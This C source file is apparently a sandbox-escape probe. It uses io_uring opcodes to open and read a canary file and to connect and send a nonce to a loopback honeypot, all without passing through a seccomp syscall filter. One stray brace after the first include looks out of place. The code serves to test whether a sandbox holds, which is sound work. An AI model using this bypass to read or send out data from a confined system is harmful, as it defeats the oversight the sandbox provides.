/* S13: io_uring as a seccomp bypass: io_uring_setup, and if it works, IORING_OP_OPENAT + READ of the canary and IORING_OP_SOCKET/CONNECT/SEND to the TCP honeypot, none of which pass through the syscall filter. */
#include "../syscall_prelude.h"
}
#include <sys/mman.h>
#include <sys/uio.h>
#include <linux/io_uring.h>
#ifndef __NR_io_uring_setup
#define __NR_io_uring_setup 425
#define __NR_io_uring_enter 426
#define __NR_io_uring_register 427
#endif

struct ring {
    int fd;
    unsigned *sq_head, *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
    struct io_uring_sqe *sqes;
    struct io_uring_cqe *cqes;
};

static int ring_init(struct ring *r, unsigned flags)
{
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    p.flags = flags;
    long fd = rs(__NR_io_uring_setup, 8, (long)&p, 0, 0, 0, 0);
    if (fd < 0) return (int)fd;
    r->fd = (int)fd;
    size_t sqsz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cqsz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    char *sq = mmap(0, sqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQ_RING);
    char *cq = mmap(0, cqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_CQ_RING);
    r->sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || r->sqes == MAP_FAILED) return -ENOMEM;
    r->sq_head = (unsigned *)(sq + p.sq_off.head);
    r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
    r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
    r->sq_array = (unsigned *)(sq + p.sq_off.array);
    r->cq_head = (unsigned *)(cq + p.cq_off.head);
    r->cq_tail = (unsigned *)(cq + p.cq_off.tail);
    r->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
    r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    return 0;
}

/* Submit one SQE and wait for its completion; returns cqe->res. */
static int ring_do(struct ring *r, struct io_uring_sqe *tmpl)
{
    unsigned tail = *r->sq_tail, idx = tail & *r->sq_mask;
    r->sqes[idx] = *tmpl;
    r->sq_array[idx] = idx;
    __atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
    long e = rs(__NR_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, 0, 0);
    if (e < 0) return (int)e;
    unsigned head = __atomic_load_n(r->cq_head, __ATOMIC_ACQUIRE);
    if (head == __atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE)) return -EAGAIN;
    int res = r->cqes[head & *r->cq_mask].res;
    __atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
    return res;
}

static void use_ring(struct ring *r, const char *how)
{
    struct io_uring_sqe s;
    /* OPENAT the canary (no openat syscall is made: seccomp never sees it) */
    memset(&s, 0, sizeof s);
    s.opcode = IORING_OP_OPENAT;
    s.fd = AT_FDCWD;
    s.addr = (unsigned long)CANARY;
    s.open_flags = O_RDONLY;
    int fd = ring_do(r, &s);
    report(fd >= 0, "io_uring(%s) OPENAT %s -> %s", how, CANARY, en(fd));
    if (fd >= 0) {
        char buf[256] = {0};
        memset(&s, 0, sizeof s);
        s.opcode = IORING_OP_READ;
        s.fd = fd;
        s.addr = (unsigned long)buf;
        s.len = sizeof buf - 1;
        int n = ring_do(r, &s);
        printf("io_uring READ of the canary: %d bytes: %s\n", n, n > 0 ? buf : "");
    }
    /* SOCKET (5.19+) then CONNECT + SEND to the honeypot */
    memset(&s, 0, sizeof s);
    s.opcode = 45; /* IORING_OP_SOCKET */
    s.fd = AF_INET;
    s.off = SOCK_STREAM;
    int sk = ring_do(r, &s);
    printf("io_uring SOCKET: %s\n", en(sk));
    if (sk < 0) sk = socket(AF_INET, SOCK_STREAM, 0);
    if (sk >= 0) {
        struct sockaddr_in sa = {0};
        sa.sin_family = AF_INET;
        sa.sin_port = htons((unsigned short)TCP_PORT);
        sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        memset(&s, 0, sizeof s);
        s.opcode = IORING_OP_CONNECT;
        s.fd = sk;
        s.addr = (unsigned long)&sa;
        s.off = sizeof sa;
        int c = ring_do(r, &s);
        report(c == 0, "io_uring(%s) CONNECT 127.0.0.1:%d -> %s", how, TCP_PORT, en(c));
        if (c == 0) {
            char msg[128];
            snprintf(msg, sizeof msg, "gauntlet-%s io_uring connect\n", NONCE);
            memset(&s, 0, sizeof s);
            s.opcode = IORING_OP_SEND;
            s.fd = sk;
            s.addr = (unsigned long)msg;
            s.len = strlen(msg);
            printf("io_uring SEND: %s\n", en(ring_do(r, &s)));
        }
        close(sk);
    }
}

int main(int argc, char **argv)
{
    args(argc, argv);
    try_read_path("/proc/sys/kernel/io_uring_disabled");
    try_read_path("/proc/sys/kernel/io_uring_group");
    const struct { const char *n; unsigned f; } V[] = {
        {"plain", 0}, {"sqpoll", IORING_SETUP_SQPOLL}, {"iopoll", IORING_SETUP_IOPOLL},
        {"coop-taskrun", 1U << 8}, {"single-issuer", 1U << 12},
    };
    for (size_t i = 0; i < sizeof V / sizeof *V; i++) {
        struct ring r = {.fd = -1};
        int e = ring_init(&r, V[i].f);
        if (e < 0) { report(0, "io_uring_setup(%s) %s", V[i].n, en(e)); continue; }
        report(1, "io_uring_setup(%s) returned a ring", V[i].n);
        use_ring(&r, V[i].n);
        close(r.fd);
    }
    /* the other two io_uring calls, and the setup call under the x32 number */
    long e = rs(__NR_io_uring_enter, 1000, 0, 0, 0, 0, 0);
    report(e != -EPERM && e != -ENOSYS, "io_uring_enter(bad fd) %s (EBADF would mean it reached the kernel)", en(e));
    e = rs(__NR_io_uring_register, 1000, 0, 0, 0, 0, 0);
    report(e != -EPERM && e != -ENOSYS, "io_uring_register(bad fd) %s", en(e));
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    e = rs(__NR_io_uring_setup | 0x40000000, 8, (long)&p, 0, 0, 0, 0);
    report(e >= 0, "io_uring_setup(x32 number) %s", en(e));
    linger();
    return 0;
}
